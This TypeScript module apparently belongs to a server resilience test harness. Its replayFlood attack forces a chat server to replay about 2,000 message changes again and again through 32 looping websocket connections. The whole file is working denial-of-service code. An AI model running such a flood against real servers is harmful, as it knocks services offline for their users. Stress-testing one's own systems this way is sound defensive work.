import { type Attack, calls, enter, openSocket, pause } from './attack.ts';

const SOCKETS = 32;

/** Replays of 2,000 changes over 32 sockets, over and over. */
export const replayFlood: Attack = {
  name: 'replays of 2,000 changes',
  async run(target) {
    const { url, longRoomId: roomId, signal } = target;
    const token = await enter(target);
    const cursor = await replayStart(url, token, roomId);
    const frame = JSON.stringify(
      calls(8, 'subscription', 'messages.live', () => ({ roomId, lastEventId: cursor })),
    );
    const attackOnce = async () => {
      while (!signal.aborted) {
        const socket = await openSocket(url, token);
        socket.send(frame);
        await pause(500, signal);
        socket.terminate();
      }
    };
    await Promise.all(Array.from({ length: SOCKETS }, attackOnce));
  },
};

/** The oldest cursor from which the server still replays. */
async function replayStart(url: string, token: string, roomId: string): Promise<string> {
  const input = encodeURIComponent(JSON.stringify({ roomId }));
  const response = await fetch(`${url}/trpc/rooms.get?input=${input}`, {
    headers: { authorization: `Bearer ${token}` },
  });
  const { result } = (await response.json()) as { result: { data: { rev: number } } };
  return String(Math.max(0, result.data.rev - 1_900));
}
